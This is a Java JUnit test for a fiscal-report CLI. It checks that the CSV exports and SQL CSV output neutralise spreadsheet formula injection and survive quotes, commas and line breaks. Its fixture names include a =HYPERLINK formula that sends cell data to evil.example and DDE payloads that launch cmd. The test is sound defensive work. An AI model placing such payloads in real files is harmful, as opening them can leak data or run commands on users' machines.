package org.fiscalscope.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVRecord;
import org.fiscalscope.SparkTest;
import org.fiscalscope.document.DocumentJson;
import org.fiscalscope.document.FinalAccount;
import org.fiscalscope.generate.DistrictGenerator;
import org.fiscalscope.generate.GeneratorSpec;
import org.fiscalscope.report.CsvFiles;
import org.junit.jupiter.api.Test;

/**
 * Unit and project names built to break CSV files and to run as spreadsheet formulas (quotes, commas, line breaks,
 * leading = + - @, tab and carriage return), planted in a landing zone and carried by the nightly run into the
 * report's CSV exports and into {@code sql --format csv}: every file still parses to the header's width in Python and
 * in Commons CSV, starts with the byte-order mark, and no text cell starts a formula; the names come back whole.
 */
class HostileNamesCsvTest extends SparkTest {

  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"打开\")";
  static final List<String> UNIT_NAMES = List.of(
      "@SUM(1+1)*cmd|' /C calc'!A0", "滨江区\"第一\"教育局,分局\n二科", "\t=1+2 文化馆", "+cmd|' /C notepad'!A0 档案馆");
  static final List<String> PROJECT_NAMES = List.of(HYPERLINK, "-2+3 项目", "\r=1 项目", "项目\"甲\",乙\r\n丙");

  private String err;

  @Test
  void theReportsCsvFilesAndSqlCsvParseEverywhereAndRunNoFormula() throws Exception {
    Path landing = hostileLanding(tmp.resolve("landing"));
    Path lake = tmp.resolve("lake");
    Path reports = tmp.resolve("reports");
    run(0, "nightly", "--landing", landing.toString(), "--lake", lake.toString(), "--report", reports.toString(),
        "--as-of", "2026-03-03");

    List<Path> csv;
    try (Stream<Path> files = Files.list(reports.resolve("2026-03-03/csv"))) {
      csv = files.sorted().toList();
    }
    assertEquals(org.fiscalscope.lake.LakeTable.inLayers(org.fiscalscope.lake.LakeTable.Layer.GOLD).stream()
            .map(t -> t + ".csv").sorted().toList(),
        csv.stream().map(p -> p.getFileName().toString()).toList(), "one CSV per gold table");
    CsvFiles.checkWithPython(csv);
    for (Path f : csv) {
      CsvFiles.parse(f);
    }

    List<CSVRecord> execution = CsvFiles.parse(reports.resolve("2026-03-03/csv/gold.execution.csv"));
    Set<String> subjects = column(execution, "subject");
    Set<String> names = column(execution, "subject_name");
    assertTrue(subjects.contains("'" + HYPERLINK), "the formula-like project name is kept whole, as text: " + subjects);
    assertTrue(subjects.contains("'-2+3 项目") && subjects.contains("'\r=1 项目") && subjects.contains("项目\"甲\",乙\r\n丙"),
        subjects.toString());
    assertTrue(names.contains("'@SUM(1+1)*cmd|' /C calc'!A0") && names.contains("滨江区\"第一\"教育局,分局\n二科")
        && names.contains("'\t=1+2 文化馆") && names.contains("'+cmd|' /C notepad'!A0 档案馆"), names.toString());
    List<CSVRecord> trends = CsvFiles.parse(reports.resolve("2026-03-03/csv/gold.three_public_trend.csv"));
    assertTrue(column(trends, "yoy_change_amount").stream().anyMatch(v -> v.matches("-[0-9]+\\.[0-9]{4}")),
        "negative amounts of a numeric column stay numbers, without a prefix");

    String out = run(0, "sql", "SELECT unit_id, subject, subject_name, actual, -actual AS negative_actual,"
        + " concat('-', subject) AS text_minus FROM gold.execution ORDER BY unit_id, subject", "--lake", lake.toString(),
        "--format", "csv");
    Path sqlCsv = tmp.resolve("sql.csv");
    Files.write(sqlCsv, out.getBytes(StandardCharsets.UTF_8));
    CsvFiles.checkWithPython(List.of(sqlCsv));
    List<CSVRecord> rows = CsvFiles.parse(sqlCsv);
    assertEquals(execution.size(), rows.size(), "every row of the table, the header included");
    assertTrue(column(rows, "subject").contains("'" + HYPERLINK), "sql --format csv neutralises like the report");
    assertTrue(column(rows, "negative_actual").stream().allMatch(v -> v.isEmpty() || v.matches("-?[0-9]+\\.[0-9]{4}")),
        "a negative number stays a number");
    assertTrue(column(rows, "text_minus").stream().allMatch(v -> v.isEmpty() || v.startsWith("'-")),
        "a text cell starting with - is prefixed");
  }

  /** A generated district of six units over two years, four unit names and four project names replaced. */
  private static Path hostileLanding(Path dir) throws Exception {
    Files.createDirectories(dir);
    Iterator<FinalAccount> docs = new DistrictGenerator(new GeneratorSpec(6, 2, 2024, 17L)).documents();
    List<String> unitIds = new ArrayList<>();
    while (docs.hasNext()) {
      FinalAccount doc = docs.next();
      ObjectNode tree = (ObjectNode) DocumentJson.tree(doc);
      String code = doc.unit().code();
      if (!unitIds.contains(code)) {
        unitIds.add(code);
      }
      int u = unitIds.indexOf(code);
      if (u < UNIT_NAMES.size()) {
        ((ObjectNode) tree.get("unit")).put("name", UNIT_NAMES.get(u));
        if (u == 0) {
          ((ObjectNode) tree.get("unit")).remove("code");
        }
        ArrayNode projects = (ArrayNode) tree.path("performance").path("projects");
        if (!projects.isEmpty()) {
          ((ObjectNode) projects.get(0)).put("name", PROJECT_NAMES.get(u));
        }
      }
      Files.writeString(dir.resolve(code + "-" + doc.fiscalYear() + ".json"),
          DocumentJson.mapper().writeValueAsString(tree), StandardCharsets.UTF_8);
    }
    return dir;
  }

  private static Set<String> column(List<CSVRecord> records, String name) {
    int i = records.get(0).toList().indexOf(name);
    assertTrue(i >= 0, "column " + name + " in " + records.get(0));
    return records.stream().skip(1).map(r -> r.get(i)).collect(Collectors.toSet());
  }

  /** Runs a verb in this JVM; returns stdout and leaves stderr in {@link #err}. */
  private String run(int expectedExit, String... args) {
    PrintStream stdout = System.out;
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    StringWriter errors = new StringWriter();
    int exit;
    try {
      System.setOut(new PrintStream(out, true, StandardCharsets.UTF_8));
      exit = Main.commandLine().setErr(new PrintWriter(errors, true)).execute(args);
    } finally {
      System.setOut(stdout);
    }
    err = errors.toString();
    assertEquals(expectedExit, exit, String.join(" ", args) + " exit code; stderr: " + err);
    return out.toString(StandardCharsets.UTF_8);
  }
}
